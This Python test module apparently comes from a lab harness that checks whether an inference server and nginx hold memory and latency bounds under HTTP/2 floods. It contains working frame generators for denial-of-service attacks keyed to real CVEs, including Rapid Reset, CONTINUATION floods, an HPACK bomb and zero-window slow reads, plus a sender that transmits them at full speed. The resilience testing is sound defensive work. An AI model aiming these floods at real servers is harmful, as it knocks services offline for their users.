"""Floods of HTTP/2: frames that cost the sender little."""

from __future__ import annotations

import contextlib
import select
import time
from collections.abc import Callable, Iterator
from functools import partial

import http1
import http2
import victims
from lab import Lab
from promise import Outcome, promise
from subject import Subject, nginx

MOST_MIB = 64
BLOCK = http2.call(http2.INFER)


def rapid_reset() -> Iterator[bytes]:
    for stream in range(1, 1 << 30, 2):
        yield http2.frame(http2.HEADERS, http2.END_HEADERS, stream, BLOCK) + http2.frame(
            http2.RST_STREAM, 0, stream, b"\x00\x00\x00\x08"
        )


def pings() -> Iterator[bytes]:
    while True:
        yield http2.frame(http2.PING, 0, 0, b"12345678")


def settings() -> Iterator[bytes]:
    while True:
        yield http2.settings(header_table_size=4096)


def continuation() -> Iterator[bytes]:
    yield http2.frame(http2.HEADERS, 0, 1, BLOCK)
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, http2.literal(b"x-a", b"b" * 100) * 40)


def empty_continuation() -> Iterator[bytes]:
    yield http2.frame(http2.HEADERS, 0, 1, BLOCK)
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1)


def empty_data() -> Iterator[bytes]:
    yield http2.frame(http2.HEADERS, http2.END_HEADERS, 1, BLOCK)
    while True:
        yield http2.frame(http2.DATA, 0, 1)


def hpack() -> Iterator[bytes]:
    """One entry of the table, four thousand times in each request."""
    entry = http2.literal(b"x-bomb", b"a" * 3900, indexed=True)
    yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, BLOCK + entry)
    for stream in range(3, 1 << 30, 2):
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, BLOCK + b"\xbe" * 4000)


def window_updates() -> Iterator[bytes]:
    while True:
        yield http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")


def small_windows() -> Iterator[bytes]:
    """Many calls, whose answers are let out a byte at a time."""
    body = http2.message(http2.model_infer(http1.rows(10)))
    yield http2.settings(initial_window_size=0)
    for stream in range(1, 1 << 30, 2):
        yield (
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, BLOCK)
            + http2.frame(http2.DATA, http2.END_STREAM, stream, body)
            + http2.frame(http2.WINDOW_UPDATE, 0, stream, b"\x00\x00\x00\x01")
        )


def unknown_frames() -> Iterator[bytes]:
    while True:
        yield http2.frame(0xF0, 0, 0, b"x" * 100)


FLOODS: dict[str, tuple[Callable[[], Iterator[bytes]], str]] = {
    "rapid-reset": (rapid_reset, "CVE-2023-44487"),
    "ping": (pings, "CVE-2019-9512"),
    "settings": (settings, "CVE-2019-9515"),
    "continuation": (continuation, "CVE-2024-27316"),
    "empty-continuation": (empty_continuation, "CVE-2024-27316"),
    "empty-data": (empty_data, "CVE-2019-9518"),
    "hpack": (hpack, "CVE-2016-6581"),
    "window-update": (window_updates, "CVE-2019-9511"),
    "small-windows": (small_windows, "CVE-2019-9511"),
    "unknown-frames": (unknown_frames, "RFC 9113, 10.5"),
}


def flood(address: str, make: Callable[[], Iterator[bytes]]) -> None:
    """As fast as it is taken; nothing that comes back is read but thrown away."""
    with http1.reset_on_close(http1.connect(address)) as connection:
        connection.sendall(http2.start())
        connection.setblocking(False)
        source, data = make(), b""
        while True:
            readable, writable, _ = select.select([connection], [connection], [], 5)
            if readable and not connection.recv(1 << 20):
                return
            if writable:
                while len(data) < 65536:
                    data += next(source)
                data = data[connection.send(data) :]


def speaks_http2(address: str) -> bool:
    try:
        with http1.connect(address, 1) as connection:
            connection.sendall(http2.start())
            return connection.recv(9)[3:4] == bytes((http2.SETTINGS,))
    except OSError:
        return False


def under(lab: Lab, name: str, server: Subject, door: str, others: str) -> Outcome:
    make = FLOODS[name][0]
    outcome = victims.outcome(
        lab,
        others,
        lambda: lab.attacked(flood, door, make, processes=2),
        p99=lambda alone: max(2 * alone, 10.0),
        seconds=2,
    )
    alive = server.alive()
    resident = server.resident_mib() if alive else float("inf")
    now = f"{outcome.now}; {resident:.0f} MiB"
    return Outcome(now, bool(outcome.holds) and resident <= MOST_MIB, figures=outcome.figures)


def run(lab: Lab, name: str) -> Outcome:
    with lab.iris() as server:
        ours = under(lab, name, server, server.grpc, server.http)
        if speaks_http2(server.http):
            again = under(lab, name, server, server.http, server.http)
            both = bool(ours.holds) and bool(again.holds)
            ours = Outcome(f"gRPC: {ours.now}. HTTP: {again.now}", both, figures=ours.figures)
    if not lab.has_nginx():
        return ours
    with nginx() as server:
        theirs = under(lab, name, server, server.grpc, server.http)
    return victims.beside_nginx(ours, theirs)


for each, (_, source) in FLOODS.items():
    promise(
        f"A flood of HTTP/2 ({each}) is bounded in memory, and not felt by others",
        name=f"flood-{each}",
        kind="floods",
        anchor=f"{source}; hyper, h2, nginx",
        attack="2 connections, as fast as one core sends; others ask for one row over HTTP/1.1",
        bound=f"p99 ≤ 2 × or 10 ms, none fails, VmRSS ≤ {MOST_MIB} MiB",
    )(partial(run, name=each))


@promise(
    "A dropped connection of HTTP/2 takes its work with it",
    kind="floods",
    timed=True,
    anchor="hyper, h2; Envoy",
    attack="50 connections with 100 calls of 512 rows each, reset at once",
    bound="one row is answered within 50 ms, 1 s later",
)
def reset_connections(lab: Lab) -> Outcome:
    body = http2.message(http2.model_infer(http1.rows(512)))
    with lab.iris() as server:
        for _ in range(50):
            connection = http1.reset_on_close(http1.connect(server.grpc))
            connection.settimeout(0.3)
            frames = [http2.start()]
            for stream in range(1, 9, 2):
                frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, BLOCK))
                frames.append(http2.frame(http2.DATA, 0, stream, body[:16000]))
                frames.append(http2.frame(http2.DATA, http2.END_STREAM, stream, body[16000:]))
            with contextlib.suppress(OSError):
                connection.sendall(b"".join(frames))
            connection.close()
        time.sleep(1)
        began = time.monotonic()
        status = http1.ask(server.http, http1.predict(1)).status
        took = (time.monotonic() - began) * 1e3
    return Outcome(f"{status} in {took:.1f} ms", status == 200 and took <= 50)
